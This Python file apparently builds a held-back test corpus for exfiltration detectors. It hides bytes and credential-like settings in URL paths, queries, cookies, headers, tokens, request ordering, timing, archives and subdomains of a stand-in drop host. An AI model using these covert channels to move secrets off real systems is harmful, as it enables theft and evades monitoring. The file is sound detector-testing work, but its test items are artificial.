"""The held-back part of the exfiltration corpus: written after the detectors were tuned on the items of `hostile`, with
other encodings, places and pacing. Nothing is tuned on what these say; a change that is gets new ones.
"""

import base64
import binascii
import io
import itertools
import json
import tarfile
import time
import zipfile

from hostile import BROWSER, DROP, SIZE, Item, digits, in_body, pieces, same_heads
from samples import Samples

ACCEPT = ("Accept", "*/*")
CONSONANTS, VOWELS = "bdfghjklmnprstvz", "aiou"


def number_in(data, alphabet):
    return "".join(alphabet[digit] for digit in digits(data, len(alphabet)))


def proquint(data):
    """Words that can be spoken: five letters for each sixteen bits."""
    words = []
    for at in range(0, len(data), 2):
        pair = int.from_bytes(data[at : at + 2].ljust(2, b"\0"), "big")
        words.append(CONSONANTS[pair >> 12 & 15] + VOWELS[pair >> 10 & 3] + CONSONANTS[pair >> 6 & 15]
                     + VOWELS[pair >> 4 & 3] + CONSONANTS[pair & 15])
    return "-".join(words)


def dictionary():
    """2,048 words that look like those of a language."""
    drawn = Samples("dictionary")
    ends = ["er", "ing", "tion", "ment", "able", "ness", "ful", "ity"]
    words = set()
    while len(words) < 2048:
        stem = "".join(drawn.random.choice(CONSONANTS) + drawn.random.choice("aeiou") for _ in range(2))
        words.add(stem + drawn.random.choice(CONSONANTS) + drawn.random.choice(ends))
    return sorted(words)


DICTIONARY = dictionary()
BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
EMOJI = ["%F0%9F%98%" + f"{128 + at:02X}" for at in range(64)]


def words(data):
    return "-".join(DICTIONARY[digit] for digit in digits(data, len(DICTIONARY)))


def invisible(data):
    marks = ["%E2%80%8B", "%E2%80%8C", "%E2%80%8D", "%E2%81%A0"]
    return "ok" + "".join(marks[byte >> shift & 3] for byte in data for shift in (6, 4, 2, 0))


def utf16(data):
    return "".join(f"%{byte:02X}%00" for byte in data)


# What may stand in a URL and in a cookie.
TEXTS = {
    "ascii85": lambda data: "".join(f"%{byte:02X}" if chr(byte) in '%"<>\\^`{|};, &#?+=' else chr(byte)
                                    for byte in base64.a85encode(data)),
    "base85": lambda data: "".join(f"%{byte:02X}" if chr(byte) in '%"<>\\^`{|};, &#?+=' else chr(byte)
                                   for byte in base64.b85encode(data)),
    "base58": lambda data: number_in(data, BASE58),
    "base36": lambda data: number_in(data, "0123456789abcdefghijklmnopqrstuvwxyz"),
    "base32-small": lambda data: base64.b32encode(data).decode().lower().rstrip("="),
    "base32hex": lambda data: number_in(data, "0123456789ABCDEFGHIJKLMNOPQRSTUV"),
    "decimal": lambda data: str(int.from_bytes(data, "big")),
    "octal": lambda data: "".join(f"{byte:03o}" for byte in data),
    "binary": lambda data: "".join(f"{byte:08b}" for byte in data),
    "letters": lambda data: number_in(data, "abcdefghijklmnop"),
    "proquint": proquint,
    "words": words,
    "emoji": lambda data: "".join(EMOJI[digit] for digit in digits(data, 64)),
    "utf16": utf16,
    "invisible": invisible,
    "hex-dotted": lambda data: ".".join(f"{byte:02x}" for byte in data),
    "uuids": lambda data: "~".join(
        "-".join((part[:8], part[8:12], part[12:16], part[16:20], part[20:]))
        for part in (piece.hex().ljust(32, "0") for piece in pieces(data, 16))),
}


def get(wire, path="/", *fields):
    wire.send("GET", path, [BROWSER, ACCEPT, *fields])


def sent(size, send):
    """Sends random bytes, `size` of them by each call."""

    def run(wire, samples):
        for at, piece in enumerate(pieces(samples.bytes(SIZE), size)):
            send(wire, piece, at)

    return run


def mixture(wire, piece, at):
    """A third each in a field, in the query and in a cookie."""
    parts = [part.hex() for part in pieces(piece, -(-len(piece) // 3))]
    parts += [""] * (3 - len(parts))
    get(wire, f"/search?q={parts[1]}", ("X-Tag", parts[0]), ("Cookie", f"id={parts[2]}"))


def wandering(wire, piece, at):
    """Another place in each request."""
    text = base64.urlsafe_b64encode(piece).decode().rstrip("=")
    places = [lambda: get(wire, f"/a/{text}"), lambda: get(wire, f"/?v={text}"), lambda: get(wire, "/", ("X-V", text)),
              lambda: get(wire, "/", ("Cookie", f"v={text}")), lambda: get(wire, "/", ("Referer", f"https://a.example/{text}")),
              lambda: get(wire, "/", ("X-Request-Id", text)), lambda: get(wire, "/", ("If-None-Match", f'"{text}"')),
              lambda: wire.send("GET", "/", [("User-Agent", f"tool/{text}"), ACCEPT])]
    places[at % len(places)]()


def boundary(wire, piece, at):
    mark = piece.hex()
    body = f'--{mark}\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--{mark}--\r\n'.encode()
    wire.send("POST", "/form", [BROWSER, ("Content-Type", f"multipart/form-data; boundary={mark}")], body)


def languages(wire, samples):
    tags = ["en", "de", "fr", "es", "it", "pt", "nl", "pl"]
    orders = list(itertools.permutations(tags))
    for digit in digits(samples.bytes(SIZE), len(orders)):
        get(wire, "/", ("Accept-Language", ",".join(orders[digit])))


def qualities(wire, piece, at):
    marks = ",".join(f"{tag};q=0.{value:03}" for tag, value in zip(("de", "en", "fr", "it", "es", "nl"), piece))
    get(wire, "/", ("Accept-Language", marks))


def accepts(wire, samples):
    kinds = ["text/html", "text/plain", "image/png", "image/webp", "application/json", "application/xml", "text/css"]
    orders = list(itertools.permutations(kinds))
    for digit in digits(samples.bytes(SIZE), len(orders)):
        wire.send("GET", "/", [BROWSER, ("Accept", ",".join(orders[digit]))])


def json_keys(wire, samples):
    names = ["limit", "offset", "sort", "filter", "fields", "expand", "locale", "format"]
    orders = list(itertools.permutations(names))
    for digit in digits(samples.bytes(SIZE), len(orders)):
        get(wire, "/query?q=" + "{" + ",".join(f"%22{name}%22:1" for name in orders[digit]) + "}")


def query_order(wire, samples):
    names = ["limit", "offset", "sort", "filter", "fields", "expand", "locale", "format"]
    orders = list(itertools.permutations(names))
    for digit in digits(samples.bytes(SIZE), len(orders)):
        get(wire, "/query?" + "&".join(f"{name}=1" for name in orders[digit]))


def value_case(wire, samples):
    text = "accept-this-request-for-the-daily-report-of-the-team"
    bits = "".join(f"{byte:08b}" for byte in samples.bytes(SIZE))
    for part in pieces(bits, 44):
        marks = iter(part + "0" * 16)
        get(wire, "/", ("X-Purpose", "".join(one.upper() if one.isalpha() and next(marks) == "1" else one for one in text)))


def dates(wire, piece, at):
    when = time.strftime("%a, %d %b %Y %H:%M:%S GMT", time.gmtime(int.from_bytes(piece, "big")))
    get(wire, "/", ("If-Modified-Since", when))


def ranges(wire, piece, at):
    first = int.from_bytes(piece[:3], "big")
    get(wire, "/file", ("Range", f"bytes={first}-{first + int.from_bytes(piece[3:], 'big')}"))


def versions(wire, piece, at):
    shown = ".".join(str(byte) for byte in piece)
    wire.send("GET", "/", [("User-Agent", f"Mozilla/5.0 (X11; Linux x86_64) Chrome/{shown} Safari/537.36"), ACCEPT])


def forwarded(wire, piece, at):
    addresses = [".".join(str(byte) for byte in part) for part in pieces(piece, 4)]
    get(wire, "/", ("X-Forwarded-For", ", ".join(addresses)))


def web_tokens(wire, piece, at):
    part = lambda value: base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")
    claims = {"iss": "https://login.example", "sub": piece[:32].hex(), "exp": 1900000000 + at}
    signature = base64.urlsafe_b64encode(piece[32:].ljust(32, b"\0")).decode().rstrip("=")
    token = f"{part({'alg': 'HS256', 'typ': 'JWT'})}.{part(claims)}.{signature}"
    get(wire, "/", ("Authorization", "Bearer " + token))


def session_cookie(wire, samples):
    part = lambda value: base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")
    token = f"{part({'alg': 'HS256'})}.{part({'sub': samples.bytes(SIZE).hex()})}.{samples.pick(43)}"
    get(wire, "/", ("Cookie", "session=" + token))


def basic(wire, piece, at):
    get(wire, "/", ("Authorization", "Basic " + base64.b64encode(b"user:" + piece).decode()))


def signed(wire, piece, at):
    get(wire, f"/object?X-Amz-Date=20240501T120000Z&X-Amz-Signature={piece.hex()}")


def traced(wire, piece, at):
    get(wire, "/", ("traceparent", f"00-{piece[:16].hex()}-{piece[16:].hex().ljust(16, '0')}-01"))


def checksums(wire, piece, at):
    value = base64.b64encode(piece.ljust(32, b"\0")).decode()
    get(wire, "/", ("x-amz-checksum-sha256", value), ("Content-MD5", value[:24]))


def over_hosts(wire, samples):
    """Some bytes for each of many hosts."""
    for at, piece in enumerate(pieces(samples.bytes(SIZE), 46)):
        wire.close()
        wire.host = f"h{at}.many.{DROP}"
        get(wire, f"/c?d={piece.hex()}")


def paced(size, gap, send):
    def run(wire, samples):
        for at, piece in enumerate(pieces(samples.bytes(SIZE), size)):
            send(wire, piece, at)
            wire.step(gap * (0.5 + samples.random.random()))

    return run


def among_honest(wire, samples):
    """A little data between requests that repeat."""
    for at, piece in enumerate(pieces(samples.bytes(SIZE), 12)):
        for page in range(5):
            get(wire, f"/docs/{page}.html")
        get(wire, f"/docs/search?q={piece.hex()}")


def in_archive(kind, make):
    def run(wire, samples):
        data = make(samples.settings(kind).encode())
        wire.send("POST", "/upload", [BROWSER, ("Content-Type", "application/octet-stream")], data)

    return run


def zipped(data):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("settings.env", data)
    return file.getvalue()


def tarred(data):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w:gz") as archive:
        entry = tarfile.TarInfo("settings.env")
        entry.size = len(data)
        archive.addfile(entry, io.BytesIO(data))
    return file.getvalue()


BODIES = {
    "zip": zipped,
    "tar-gz": tarred,
    "csv": lambda data: b"".join(b'%d,"%s"\n' % (at, line.replace(b'"', b'""')) for at, line in enumerate(data.splitlines())),
    "yaml": lambda data: b"config: |\n" + b"".join(b"  " + line + b"\n" for line in data.splitlines()),
    "xml": lambda data: b"<f><![CDATA[" + data + b"]]></f>",
    "ndjson": lambda data: b"".join(json.dumps({"line": line.decode()}).encode() + b"\n" for line in data.splitlines()),
    "data-url": lambda data: b'{"url":"data:text/plain;base64,' + base64.b64encode(data) + b'"}',
    "diff": lambda data: b"--- a\n+++ b\n" + b"".join(b"+" + line + b"\n" for line in data.splitlines()),
    "notebook": lambda data: json.dumps({"cells": [{"cell_type": "code", "source": data.decode().splitlines(True)}]}).encode(),
    "chat": lambda data: json.dumps({"messages": [{"role": "user", "content": "Explain:\n" + data.decode()}]}).encode(),
    "json-in-json": lambda data: json.dumps({"arguments": json.dumps({"text": data.decode()})}).encode(),
    "base64-76": lambda data: b'{"content":"' + base64.encodebytes(data).replace(b"\n", b"\\n") + b'"}',
    "hex-spaced": lambda data: binascii.hexlify(data, " "),
    "base32-small": lambda data: base64.b32encode(data).lower(),
    "base85": base64.b85encode,
    "utf16": lambda data: data.decode().encode("utf-16-le"),
}


def items():
    made = []

    def add(name, run, **more):
        made.append(Item(name, run, held_back=True, **more))

    for at, (encoding, encode) in enumerate(TEXTS.items()):
        for place, size in (("path", (100, 40, 12)[at % 3]), ("query", (12, 100, 40)[at % 3])):
            target = "/f/{}" if place == "path" else "/s?lang=en&t={}"
            add(f"new-{place}-{encoding}-{size}", sent(size, lambda wire, piece, _, encode=encode, target=target: get(
                wire, target.format(encode(piece)))))
        if encoding not in ("emoji", "utf16", "invisible", "ascii85", "base85"):
            size = (40, 12, 100)[at % 3]
            add(f"new-field-{encoding}-{size}", sent(size, lambda wire, piece, _, encode=encode: get(
                wire, "/", ("X-Meta", encode(piece)))))
            add(f"new-cookie-{encoding}-{size}", sent(size, lambda wire, piece, _, encode=encode: get(
                wire, "/", ("Cookie", "lang=en; uid=" + encode(piece)))))
    quoted = lambda text: "".join(one if 32 < ord(one) < 127 else f"%{ord(one):02X}" for one in text)
    for name, encode in (("ascii85", base64.a85encode), ("base85", base64.b85encode)):
        add(f"new-field-{name}-60", sent(60, lambda wire, piece, _, encode=encode: get(
            wire, "/", ("X-Meta", quoted(encode(piece).decode())))))
    add("new-mixture-36", sent(36, mixture))
    add("new-mixture-9", sent(9, mixture))
    add("new-wandering-24", sent(24, wandering))
    add("new-wandering-64", sent(64, wandering))
    add("new-boundary-32", sent(32, boundary), documented=True)
    add("new-boundary-16", sent(16, boundary), documented=True)
    add("new-language-order", languages)
    add("new-language-quality", sent(6, qualities))
    add("new-accept-order", accepts)
    add("new-json-key-order", json_keys)
    add("new-query-order", query_order)
    add("new-value-case", value_case)
    add("new-dates", sent(4, dates))
    add("new-ranges", sent(6, ranges))
    add("new-user-agent-versions", sent(4, versions))
    add("new-forwarded-for", sent(16, forwarded), closed=lambda arrived, _wire: same_heads(arrived))
    add("new-etag-20", sent(20, lambda wire, piece, _: get(wire, "/", ("If-None-Match", f'"{piece.hex()}"'))))
    add("new-referer-30", sent(30, lambda wire, piece, _: get(wire, "/", ("Referer", f"https://web.example/?r={piece.hex()}"))))
    add("new-origin-16", sent(16, lambda wire, piece, _: get(wire, "/", ("Origin", f"https://{piece.hex()}.example"))))
    add("new-from-12", sent(12, lambda wire, piece, _: get(wire, "/", ("From", f"{piece.hex()}@web.example"))))
    add("new-request-id-16", sent(16, lambda wire, piece, _: get(wire, "/", ("X-Correlation-Id", piece.hex()))), documented=True)
    add("new-request-id-120", sent(120, lambda wire, piece, _: get(wire, "/", ("X-Correlation-Id", piece.hex()))))
    add("new-request-id-words", sent(40, lambda wire, piece, _: get(wire, "/", ("X-Session-Id", words(piece)))))
    add("new-baggage-60", sent(60, lambda wire, piece, _: get(wire, "/", ("baggage", "user=" + piece.hex()))))
    add("new-tracestate-40", sent(40, lambda wire, piece, _: get(wire, "/", ("tracestate", "v=" + piece.hex()))))
    add("new-traceparent", sent(24, traced), documented=True)
    add("new-checksums-without-body", sent(32, checksums))
    add("new-idempotency-key-64", sent(64, lambda wire, piece, _: wire.send(
        "POST", "/pay", [BROWSER, ("Idempotency-Key", piece.hex())], b"{}")))
    add("new-jwt-64", sent(64, web_tokens))
    add("new-jwt-cookie", session_cookie)
    add("new-basic-60", sent(60, basic))
    add("new-basic-550", sent(550, basic))
    add("new-api-key-1100", sent(1_100, lambda wire, piece, _: get(wire, "/", ("X-Api-Key", piece.hex()))))
    add("new-api-key-query-48", sent(48, lambda wire, piece, _: get(wire, f"/?key={piece.hex()}")))
    add("new-state-parameter-100", sent(100, lambda wire, piece, _: get(wire, f"/login?state={piece.hex()}")))
    add("new-signed-urls", sent(32, signed))
    add("new-signatures-256", sent(256, lambda wire, piece, _: get(wire, "/?Policy=1&Signature=" + base64.urlsafe_b64encode(
        piece).decode())))
    add("new-cookie-names-16", sent(16, lambda wire, piece, _: get(wire, "/", ("Cookie", f"{piece.hex()}=1"))))
    add("new-path-parameters-16", sent(16, lambda wire, piece, _: get(wire, f"/page;v={piece.hex()}")))
    add("new-disposition-40", sent(40, lambda wire, piece, _: wire.send(
        "POST", "/up", [BROWSER, ("Content-Disposition", f'attachment; filename="{piece.hex()}"')], b"x")))
    add("new-over-hosts", over_hosts, documented=True)
    add("new-among-honest", among_honest)
    add("new-byte-a-second", paced(1, 1, lambda wire, piece, _: get(wire, f"/t?v={piece[0]}")), slow=True)
    add("new-field-a-minute", paced(6, 60, lambda wire, piece, _: get(wire, "/", ("X-V", piece.hex()))), slow=True)
    add("new-words-a-minute", paced(11, 60, lambda wire, piece, _: get(wire, "/s?q=" + words(piece))), slow=True)
    add("new-mixture-five-minutes", paced(9, 300, mixture), slow=True)
    kinds = ["github", "aws", "anthropic", "pem", "openai", "stripe", "npm", "slack", "google", "gitlab", "jwt",
             "connection", "rsa", "github", "aws", "anthropic"]
    for kind, (form, make) in zip(kinds, BODIES.items()):
        add(f"new-body-{kind}-{form}", in_archive(kind, make))
    add("new-body-github-gzip-in-base64-in-chunks", in_body("github", "gzip", "base64", chunk=11))
    add("new-body-openai-percent-in-json", in_body("openai", "percent", "json"))
    return made


HOSTS = [f"h{at}.many.{DROP}" for at in range(-(-SIZE // 46))]
